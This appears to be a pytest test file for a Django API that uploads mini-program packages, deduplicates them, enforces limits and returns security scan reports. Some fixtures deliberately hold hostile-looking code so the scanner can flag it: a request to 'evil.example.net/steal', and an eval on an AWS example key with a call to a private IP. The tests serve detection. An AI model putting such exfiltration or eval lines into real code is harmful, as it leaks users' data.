"""POST/GET /api/v1/programs/{appid}/versions/ and GET …/versions/{version}/: upload, dedupe, scan report."""

import hashlib
from pathlib import Path

import pytest
from django.conf import settings
from django.middleware.csrf import _get_new_csrf_string
from django.urls import reverse
from rest_framework.test import APIClient

from console.models import AuditEvent
from programs.models import Version
from programs.samples import build_package
from programs.tests.factories import VersionFactory, scan_tasks, scannable_program, upload, zipped

MISSING_PAGE = {"pages": ["pages/index/index", "pages/profile/profile", "pages/ghost/ghost"]}


@pytest.fixture
def program(org):
    return scannable_program(org, name="Acme Maps")


@pytest.fixture
def post(api_with_key, program):
    """Upload through the API key; returns the response (the scan does not run: nothing commits)."""

    def _post(data: bytes, version: str = "1.0.0", *, client=None, **extra):
        body = {"package": upload(data), "version": version, **extra}
        return (client or api_with_key).post(versions_url(program), body, format="multipart")

    return _post


@pytest.fixture
def post_and_scan(post, django_capture_on_commit_callbacks):
    """Upload and run the eager scan that the commit triggers."""

    def _post(*args, **kwargs):
        with django_capture_on_commit_callbacks(execute=True) as callbacks:
            response = post(*args, **kwargs)
        return response, callbacks

    return _post


def versions_url(program) -> str:
    return f"/api/v1/programs/{program.appid}/versions/"


def version_url(program, version: str) -> str:
    return f"{versions_url(program)}{version}/"


def _fields(response, status: int = 400, code: str = "invalid") -> dict:
    assert response.status_code == status, response.content
    error = response.json()["error"]
    assert error["code"] == code
    assert error["message"]
    return error["fields"]


def _stored_files() -> list[Path]:
    root = Path(settings.PRIVATE_MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# ---------------------------------------------------------------- accepted uploads


def test_upload_is_202_with_the_versions_url_and_stores_the_package(post, program, owner, owner_key):
    data = build_package("alipay")
    response = post(data, "1.0.0", description=" First drop ")
    assert response.status_code == 202, response.content
    body = response.json()
    assert body["url"] == f"http://testserver{version_url(program, '1.0.0')}"
    assert response["Location"] == body["url"]
    assert (body["version"], body["status"], body["description"]) == ("1.0.0", "uploaded", "First drop")
    assert body["package_sha256"] == hashlib.sha256(data).hexdigest()
    assert (body["package_size"], body["uploaded_by"], body["upload_method"]) == (len(data), owner.email, "api")
    version = Version.objects.get(program=program)
    assert version.api_key == owner_key[0]
    assert version.package.name == f"packages/{program.appid}/{body['package_sha256']}.zip"
    with version.package.open("rb") as f:
        assert f.read() == data


def test_upload_records_an_audit_event(post, program, owner_key):
    data = build_package("alipay")
    post(data, "1.2.3", method="cli")
    event = AuditEvent.objects.get(action="version.upload")
    assert event.organisation == program.organisation
    assert event.actor_label.startswith(f"API key {owner_key[0].prefix}")
    assert event.after == {"version": "1.2.3", "sha256": hashlib.sha256(data).hexdigest(), "size": len(data),
                           "method": "cli"}


def test_a_valid_package_is_ready_after_the_eager_scan(post_and_scan, api_with_key, program):
    response, callbacks = post_and_scan(build_package("wechat"), "1.0.0")
    assert response.status_code == 202
    assert len(scan_tasks(callbacks)) == 1
    body = api_with_key.get(response["Location"]).json()
    assert body["status"] == "ready"
    assert body["scan"]["progress"] == 100
    assert body["scan"]["done"] is True
    assert body["scan"]["attempts"] == 1
    # Moments read alike: the scan's wrote UTC's Z beside created_at's +08:00 (a CI developer's walk).
    assert body["scan"]["started_at"][-6:] == body["scan"]["finished_at"][-6:] == body["created_at"][-6:]
    report = body["report"]
    assert (report["dialect"], report["errors"]) == ("wechat", 0)
    assert {"errors", "warnings", "notices", "findings", "sizes", "risk"} <= set(report)
    assert report["sizes"]["main"] > 0
    assert set(report["sizes"]["subpackages"]) == {"packageA/"}
    assert report["sizes"]["full"] == report["sizes"]["main"] + report["sizes"]["subpackages"]["packageA/"]
    assert isinstance(report["risk"]["score"], int)
    assert isinstance(report["risk"]["breakdown"], list)


def test_a_broken_package_is_scan_failed_with_located_findings(post_and_scan, api_with_key, program):
    response, _callbacks = post_and_scan(build_package("alipay", app_json=MISSING_PAGE), "1.0.0")
    body = api_with_key.get(response["Location"]).json()
    assert body["status"] == "scan_failed"
    report = body["report"]
    assert report["errors"] >= 1
    assert report["errors"] == sum(1 for f in report["findings"] if f["severity"] == "error")
    finding = next(f for f in report["findings"] if f["code"] == "structure.page_missing_template")
    assert set(finding) >= {"code", "severity", "message", "file", "line", "column"}
    assert finding["severity"] == "error"
    assert "ghost" in finding["message"]


def test_a_domain_off_the_programs_allowlist_fails_the_scan(post_and_scan, api_with_key, program):
    code = "\nmy.request({ url: 'https://evil.example.net/steal' });\n"
    response, _callbacks = post_and_scan(build_package("alipay", code=code), "1.0.0")
    report = api_with_key.get(response["Location"]).json()["report"]
    assert [f["code"] for f in report["findings"] if f["severity"] == "error"] == ["network.not_allowed"]
    assert report["findings"][0]["file"] == "app.js"


def test_after_adding_the_domain_the_same_package_is_scanned_again_and_passes(
        post_and_scan, api_with_key, program, django_capture_on_commit_callbacks):
    """The package was not the problem, the program's list was: uploading it again only found it uploaded."""
    code = "\nmy.request({ url: 'https://api.partner.example.net/rides' });\n"
    response, _ = post_and_scan(build_package("alipay", code=code), "1.0.0")
    version_url = response["Location"]
    assert api_with_key.get(version_url).json()["status"] == "scan_failed"
    domains = {**program.domains(), "request": [*program.domains().get("request", []), "https://api.partner.example.net"]}
    assert api_with_key.patch(f"/api/v1/programs/{program.appid}/", {"domains": domains},
                              format="json").status_code == 200

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        rescan = api_with_key.post(f"{version_url}rescan/")

    assert (rescan.status_code, rescan.json()["status"]) == (202, "uploaded")
    assert len(scan_tasks(callbacks)) == 1
    body = api_with_key.get(version_url).json()
    assert (body["status"], body["report"]["errors"], body["scan"]["attempts"]) == ("ready", 0, 1)
    assert program.versions.count() == 1


def test_only_a_failed_scan_is_scanned_again(post_and_scan, api_with_key, program):
    response, _ = post_and_scan(build_package("alipay"), "1.0.0")

    refused = api_with_key.post(f"{response['Location']}rescan/")

    assert refused.status_code == 409
    assert refused.json()["error"]["code"] == "wrong_state"


def test_scanning_again_counts_against_the_hourly_upload_limit(api_with_key, program, settings):
    """A script looping on rescan would keep the scanners busy: each counts as an upload attempt."""
    settings.PACKAGE_UPLOADS_PER_HOUR = 1
    version = VersionFactory(program=program, version="1.0.0", status=Version.Status.SCAN_FAILED)
    url = f"/api/v1/programs/{program.appid}/versions/1.0.0/rescan/"
    assert api_with_key.post(url).status_code == 202
    Version.objects.filter(pk=version.pk).update(status=Version.Status.SCAN_FAILED)  # its scan failed again

    refused = api_with_key.post(url)

    assert refused.status_code == 409
    assert refused.json()["error"]["code"] == "limit_reached"
    assert refused.json()["error"]["message"].startswith(
        "Scanning again counts as an upload, and this organisation reached its limit of 1 an hour; try again in")
    version.refresh_from_db()
    assert version.status == Version.Status.SCAN_FAILED


def test_another_organisations_version_cannot_be_scanned_again(api, outsider, program):
    version = VersionFactory(program=program, version="1.0.0", status=Version.Status.SCAN_FAILED)
    api.force_authenticate(outsider)

    response = api.post(f"/api/v1/programs/{program.appid}/versions/{version.version}/rescan/")

    assert response.status_code == 404
    version.refresh_from_db()
    assert version.status == Version.Status.SCAN_FAILED


def test_the_version_detail_shows_progress_before_the_scan(post, api_with_key, program):
    response = post(build_package("alipay"), "1.0.0")
    body = api_with_key.get(response["Location"]).json()
    assert body["status"] == "uploaded"
    assert body["scan"] == {"progress": 0, "stage": "", "attempts": 0, "started_at": None, "finished_at": None,
                            "done": False}
    assert body["report"] is None


def test_the_version_detail_says_which_hosts_the_approval_covers(api_with_key, program):
    """A reviewer walk: approved for Alipay and Weibo only, and nothing in the API said so."""
    VersionFactory(program=program, version="1.0.0", status=Version.Status.APPROVED, approved_hosts=["alipay", "weibo"])
    VersionFactory(program=program, version="1.1.0", status=Version.Status.READY)

    assert api_with_key.get(version_url(program, "1.0.0")).json()["approved_hosts"] == ["alipay", "weibo"]
    assert api_with_key.get(version_url(program, "1.1.0")).json()["approved_hosts"] == []
    schema = api_with_key.get(reverse("api_schema"), {"format": "json"}).json()
    field = schema["components"]["schemas"]["VersionOutput"]["properties"]["approved_hosts"]
    assert field["readOnly"] is True and field["items"]["type"] == "string"
    assert "every host" in field["description"]


def test_the_versions_list_is_paginated_newest_first(api_with_key, program):
    VersionFactory(program=program, version="1.0.0")
    VersionFactory(program=program, version="1.1.0")
    body = api_with_key.get(versions_url(program)).json()
    assert body["count"] == 2
    assert [v["version"] for v in body["results"]] == ["1.1.0", "1.0.0"]


# ---------------------------------------------------------------- identical packages


def test_an_identical_package_is_answered_with_the_same_version(post, program):
    data = build_package("alipay")
    first = post(data, "1.0.0")
    again = post(data, "2.0.0")
    assert (first.status_code, again.status_code) == (202, 200)
    assert again.json()["url"] == first.json()["url"]
    assert again["Location"] == first["Location"]
    assert list(program.versions.values_list("version", flat=True)) == ["1.0.0"]
    assert AuditEvent.objects.filter(action="version.upload").count() == 1


def test_the_same_package_may_be_uploaded_to_two_programs(post, api_with_key, org, program):
    other = scannable_program(org, name="Other App")
    data = build_package("alipay")
    assert post(data).status_code == 202
    response = api_with_key.post(versions_url(other), {"package": upload(data), "version": "1.0.0"},
                                 format="multipart")
    assert response.status_code == 202
    assert Version.objects.count() == 2


# ---------------------------------------------------------------- version strings


def test_a_lower_version_is_refused_with_a_field_error(post, program):
    assert post(build_package("alipay"), "1.0.0").status_code == 202
    fields = _fields(post(build_package("alipay", code="// 2"), "0.9.0"))
    assert fields == {"version": ["The version must be higher than 1.0.0."]}
    assert program.versions.count() == 1


def test_the_same_version_with_another_package_is_refused(post, program):
    post(build_package("alipay"), "1.0.0")
    fields = _fields(post(build_package("alipay", code="// 2"), "1.0"))
    assert list(fields) == ["version"]


def test_a_pre_release_sorts_before_its_release(post, api_with_key, program):
    beta = post(build_package("alipay"), "1.0.0-beta.1")
    assert beta.status_code == 202
    assert api_with_key.get(beta["Location"]).json()["version"] == "1.0.0-beta.1"
    assert post(build_package("alipay", code="// 2"), "1.0.0-beta.2").status_code == 202
    assert post(build_package("alipay", code="// 3"), "1.0.0").status_code == 202
    assert list(_fields(post(build_package("alipay", code="// 4"), "1.0.0-rc.1"))) == ["version"]
    assert sorted(program.versions.values_list("version", flat=True)) == ["1.0.0", "1.0.0-beta.1", "1.0.0-beta.2"]


@pytest.mark.parametrize("version", ["v1.0", "1.0.0.0.0", "", "1..2", "1.0-", "latest"])
def test_a_malformed_version_string_is_refused(post, program, version):
    assert list(_fields(post(build_package("alipay"), version))) == ["version"]
    assert not program.versions.exists()


def test_a_failed_scans_version_string_may_be_reused(post_and_scan, api_with_key, program):
    broken, _ = post_and_scan(build_package("alipay", app_json=MISSING_PAGE), "1.0.0")
    assert api_with_key.get(broken["Location"]).json()["status"] == "scan_failed"
    fixed, _ = post_and_scan(build_package("alipay"), "1.0.0")
    assert fixed.status_code == 202
    assert api_with_key.get(fixed["Location"]).json()["status"] == "ready"
    assert list(program.versions.values_list("status", flat=True)) == ["ready"]


def test_a_failed_scan_does_not_raise_the_bar_for_the_next_version(post_and_scan, program):
    post_and_scan(build_package("alipay", app_json=MISSING_PAGE), "2.0.0")
    response, _ = post_and_scan(build_package("alipay"), "1.0.0")
    assert response.status_code == 202
    assert program.versions.get(version="1.0.0").status == Version.Status.READY


# ---------------------------------------------------------------- size limits


@pytest.fixture
def small_limit(org):
    org.max_package_bytes = 4000
    org.save()
    return org.max_package_bytes


def test_a_package_over_the_orgs_limit_is_413_and_nothing_is_stored(post, program, small_limit):
    data = build_package("alipay")
    assert len(data) > small_limit
    response = post(data, "1.0.0")
    assert _fields(response, 413, "package_too_large") == {}
    assert response.json()["error"]["message"] == (
        "The package is larger than this organisation's upload limit of 3.9\xa0KB.")
    assert not Version.objects.exists()
    assert _stored_files() == []


def test_a_package_over_the_limit_is_refused_in_the_callers_language(api_with_key, program, small_limit):
    """The upload page said it in Chinese; the API's 413 was an English f-string."""
    body = {"package": upload(build_package("alipay")), "version": "1.0.0"}

    response = api_with_key.post(versions_url(program), body, format="multipart", HTTP_ACCEPT_LANGUAGE="zh-CN")

    assert response.status_code == 413
    assert response.json()["error"]["message"] == "代码包超出了本组织的上传上限 3.9\xa0KB。"
    assert not AuditEvent.objects.filter(action="version.upload").exists()


def test_a_package_within_the_orgs_own_limit_is_accepted(post, program, small_limit):
    assert post(b"PK\x05\x06" + b"\x00" * 18, "1.0.0").status_code == 202


def test_the_limit_counts_every_file_of_the_request_together(api_with_key, program, small_limit):
    files = {f"extra{i}": upload(b"x" * 3000, f"extra{i}.bin") for i in range(3)}
    body = {"package": upload(b"PK" + b"y" * 3000), "version": "1.0.0", **files}
    response = api_with_key.post(versions_url(program), body, format="multipart")
    assert _fields(response, 413, "package_too_large") == {}
    assert not Version.objects.exists()


def test_a_declared_content_length_over_the_limit_is_413_before_the_body_is_read(api_with_key, program, small_limit):
    body = {"package": upload(b"PK\x05\x06" + b"\x00" * 18), "version": "1.0.0"}
    response = api_with_key.post(versions_url(program), body, format="multipart", CONTENT_LENGTH=str(10 * 1024**3))
    assert _fields(response, 413, "package_too_large") == {}
    assert not Version.objects.exists()
    assert _stored_files() == []


def test_the_platform_limit_applies_without_an_org_override(post, program, settings):
    settings.PACKAGE_UPLOAD_MAX_BYTES = 5000
    assert _fields(post(build_package("alipay")), 413, "package_too_large") == {}
    assert not Version.objects.exists()


# ---------------------------------------------------------------- malformed requests


def test_a_missing_package_is_a_400(api_with_key, program):
    fields = _fields(api_with_key.post(versions_url(program), {"version": "1.0.0"}, format="multipart"))
    assert list(fields) == ["package"]


def test_a_missing_version_is_a_400(api_with_key, program):
    response = api_with_key.post(versions_url(program), {"package": upload(b"PK")}, format="multipart")
    assert list(_fields(response)) == ["version"]
    assert not Version.objects.exists()


def test_a_package_sent_as_text_is_a_400(api_with_key, program):
    response = api_with_key.post(versions_url(program), {"package": "not a file", "version": "1.0.0"},
                                 format="multipart")
    assert list(_fields(response)) == ["package"]


def test_a_json_body_is_refused_as_unsupported_media_type(api_with_key, program):
    response = api_with_key.post(versions_url(program), {"version": "1.0.0"}, format="json")
    assert _fields(response, 415, "unsupported_media_type") == {}
    assert response.json()["error"]["message"] == (
        'Unsupported media type "application/json" in request; send multipart/form-data.')


def test_malformed_json_is_refused_with_the_error_shape(api_with_key, program):
    response = api_with_key.post(versions_url(program), data=b'{"version": ', content_type="application/json")
    assert _fields(response, 415, "unsupported_media_type") == {}
    assert not Version.objects.exists()


def test_a_form_urlencoded_post_is_told_to_send_multipart(api_with_key, program):
    """It cannot carry a file; the 415 advised it all the same."""
    response = api_with_key.post(versions_url(program), data="version=1.0.0",
                                 content_type="application/x-www-form-urlencoded")
    assert _fields(response, 415, "unsupported_media_type") == {}
    assert response.json()["error"]["message"].endswith("send multipart/form-data.")


def test_a_broken_multipart_body_is_a_400(api_with_key, program):
    response = api_with_key.post(versions_url(program), data=b"--nope\r\ngarbage",
                                 content_type="multipart/form-data; boundary=other")
    assert response.status_code == 400
    assert response.json()["error"]["code"] in {"parse_error", "invalid"}
    assert not Version.objects.exists()


# ---------------------------------------------------------------- through the session (the browser's way)


def test_a_developer_uploads_through_the_session_with_a_csrf_token(member, program):
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(member)
    token = _get_new_csrf_string()
    client.cookies[settings.CSRF_COOKIE_NAME] = token
    data = build_package("alipay")
    response = client.post(versions_url(program), {"package": upload(data), "version": "1.0.0"},
                           format="multipart", HTTP_X_CSRFTOKEN=token)
    assert response.status_code == 202, response.content
    version = program.versions.get()
    assert (version.uploaded_by, version.api_key, version.package_sha256) == (
        member, None, hashlib.sha256(data).hexdigest())


def test_a_session_upload_without_a_csrf_token_is_403(member, program):
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(member)
    response = client.post(versions_url(program), {"package": upload(b"PK"), "version": "1.0.0"}, format="multipart")
    assert response.status_code == 403
    assert "CSRF" in response.json()["error"]["message"]
    assert not Version.objects.exists()


def test_a_session_upload_over_the_limit_is_413(member, program, small_limit):
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(member)
    token = _get_new_csrf_string()
    client.cookies[settings.CSRF_COOKIE_NAME] = token
    response = client.post(versions_url(program), {"package": upload(build_package("alipay")), "version": "1.0.0"},
                           format="multipart", HTTP_X_CSRFTOKEN=token)
    assert _fields(response, 413, "package_too_large") == {}
    assert not Version.objects.exists()


def test_uploads_over_the_hourly_limit_get_429_and_store_nothing(post, program, settings):
    settings.PACKAGE_UPLOADS_PER_HOUR = 2
    for number in ("1.0.0", "1.0.1"):
        assert post(build_package("alipay", code=f"// {number}\n"), number).status_code == 202
    third = post(build_package("alipay", code="// 3\n"), "1.0.2")
    assert third.status_code == 429
    assert third.json()["error"]["code"] == "rate_limited"
    assert not program.versions.filter(version="1.0.2").exists()


def test_a_re_upload_with_a_malformed_version_is_400_not_the_old_version(post, program):
    data = build_package("alipay")
    assert post(data, "1.0.0").status_code == 202
    assert _fields(post(data, "v1.x")) == {"version": ["Use a version like 1.2.3 (dotted numbers, optional -suffix)."]}
    assert program.versions.count() == 1


def test_a_re_upload_under_another_version_says_it_is_the_existing_version(post, program):
    data = build_package("alipay")
    assert post(data, "1.0.0").status_code == 202
    again = post(data, "1.1.0")
    assert again.status_code == 200
    body = again.json()
    assert (body["version"], body["duplicate"]) == ("1.0.0", {
        "requested_version": "1.1.0",
        "message": "This exact package was uploaded before, as version 1.0.0; 1.1.0 was not created."})
    assert program.versions.count() == 1


def test_a_re_upload_under_the_same_version_names_no_other_version(post, program):
    data = build_package("alipay")
    first = post(data, "1.0.0").json()
    again = post(data, "1.0.0").json()
    assert first["duplicate"] is None
    assert again["duplicate"] == {"requested_version": "1.0.0",
                                  "message": "This exact package was uploaded before, as version 1.0.0."}


NOT_A_PROGRAM = zipped(b"a zip, but no mini-program in it")  # its scan fails


@pytest.mark.parametrize("data", [b"just some text\n", b"Rar!\x1a\x07\x00", zipped(b"x" * 200)[:150]],
                         ids=["text", "rar", "cut-short-zip"])
def test_a_file_that_is_no_zip_is_a_400_on_package_and_makes_no_version(post, program, data):
    """It was a version, numbered and counted, whose scan failed with `archive.not_zip` (a developer walk: the
    page refused the .txt, in the browser, and the API took it)."""
    response = post(data, "1.0.0")

    assert response.status_code == 400
    assert response.json()["error"]["fields"]["package"] == [
        "This file is not a zip archive (or it was cut short): upload the .zip package your mini-program's IDE "
        "builds."]
    assert not program.versions.exists()


def test_a_re_upload_of_a_package_whose_scan_failed_says_to_fix_it(post_and_scan, program):
    first, _ = post_and_scan(NOT_A_PROGRAM, "1.0.0")
    assert first.status_code == 202
    assert program.versions.get().status == Version.Status.SCAN_FAILED

    again, _ = post_and_scan(NOT_A_PROGRAM, "1.0.1")

    assert again.status_code == 200
    assert again.json()["duplicate"]["message"] == (
        "This exact package was uploaded before, as version 1.0.0; 1.0.1 was not created. Its scan failed: fix the "
        "package (see that version's report) and upload it again, or, if the errors came from the program's domains "
        "or privacy declaration and you changed them, scan that version again.")



def test_in_chinese_the_two_sentences_of_that_message_join_without_a_space(post_and_scan, api_with_key, program):
    post_and_scan(NOT_A_PROGRAM, "1.0.0")
    api_with_key.defaults["HTTP_ACCEPT_LANGUAGE"] = "zh-hans"

    again, _ = post_and_scan(NOT_A_PROGRAM, "1.0.0")

    assert again.json()["duplicate"]["message"] == (
        "此代码包之前已上传过，对应版本 1.0.0。该版本扫描未通过：请修正代码包（见该版本的扫描报告）后重新上传；"
        "如果错误来自小程序的域名或隐私声明，且你已修改，请重新扫描该版本。")

def test_the_upload_limit_says_when_to_try_again_and_counts_attempts(post, program, settings):
    """Refused attempts count (the cost is the transfer): the message says attempts, not packages uploaded."""
    settings.PACKAGE_UPLOADS_PER_HOUR = 1
    assert post(build_package("alipay"), "v1.x").status_code == 400  # refused, but it was sent
    refused = post(build_package("alipay", code="// 2\n"), "1.0.0")
    assert refused.status_code == 429
    assert 3500 <= int(refused["Retry-After"]) <= 3600
    assert refused.json()["error"]["message"] == (
        "This organisation reached its limit of 1 upload attempt an hour (refused ones count too); "
        "try again in 60 minutes.")


def test_upload_answers_202_through_the_development_server(program, owner_key):
    from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart

    from console.tests.wsgi import wsgi_request

    body = encode_multipart(BOUNDARY, {"package": upload(build_package("alipay")), "version": "1.0.0"})
    status, headers, content = wsgi_request("POST", versions_url(program), body, MULTIPART_CONTENT,
                                            HTTP_AUTHORIZATION=f"Bearer {owner_key[1]}")

    assert status.startswith("202"), content
    assert dict(headers)["Location"] == f"http://testserver{version_url(program, '1.0.0')}"


def test_scanning_again_a_version_that_did_not_fail_says_so_in_words(api_with_key, program):
    """It answered the transition table's "A version that is “Ready …” cannot become “Uploaded”"."""
    version = VersionFactory(program=program, version="1.0.0", status=Version.Status.READY)

    response = api_with_key.post(f"/api/v1/programs/{program.appid}/versions/{version.version}/rescan/")

    assert response.status_code == 409
    assert response.json()["error"]["message"] == (
        "Only a version whose scan failed can be scanned again; this one is “Ready (development version)”.")


def test_a_scanned_versions_report_is_described_by_the_schema(api_with_key, program, client, post):
    """The report is what a CI job gates on; the schema said only `object`. Checked with a strict OpenAPI 3.0
    validator on a real scan with findings, a package that is no zip (its finding had no `params`), a version
    not scanned yet and an upload's duplicate answer."""
    import json

    from django.urls import reverse

    from console.tests.strict_schema import schema_problems
    from programs.scanning import ScanConfig, scan_package

    schema = json.loads(client.get(reverse("api_schema"), {"format": "json"}).content)

    def problems(body: dict, component: str) -> list[str]:
        return schema_problems(schema, body, component)

    code = "const k = 'AKIAIOSFODNN7EXAMPLE'; eval(k); wx.request({url: 'http://10.0.0.1/x'});"
    wechat = scan_package(build_package("wechat", files={"utils/x.js": code}), config=ScanConfig()).to_dict()
    broken = scan_package(b"not a zip at all", config=ScanConfig()).to_dict()
    assert any("params" not in f for f in broken["findings"])
    VersionFactory(program=program, version="1.0.0", status=Version.Status.READY, scan_report=wechat)
    VersionFactory(program=program, version="1.0.1", status=Version.Status.SCAN_FAILED, scan_report=broken)
    # A report as stored before some fields existed (the contract run's found: breakdown items without params).
    from reviews.tests.factories import scan_report as older_report
    VersionFactory(program=program, version="1.0.2", status=Version.Status.READY, scan_report=older_report())
    uploaded = post(build_package("alipay"), "2.0.0")
    again = post(build_package("alipay"), "2.0.1")

    for number in ("1.0.0", "1.0.1", "1.0.2", "2.0.0"):
        body = api_with_key.get(f"{versions_url(program)}{number}/").json()
        assert not problems(body, "VersionOutput"), (number, problems(body, "VersionOutput"))
    body = api_with_key.get(f"{versions_url(program)}1.0.1/").json()
    assert all("params" in f for f in body["report"]["findings"])
    assert len(api_with_key.get(f"{versions_url(program)}1.0.0/").json()["report"]["findings"]) >= 2
    assert again.json()["duplicate"] and not problems(again.json(), "VersionUploadOutput")
    assert not problems(uploaded.json(), "VersionUploadOutput")
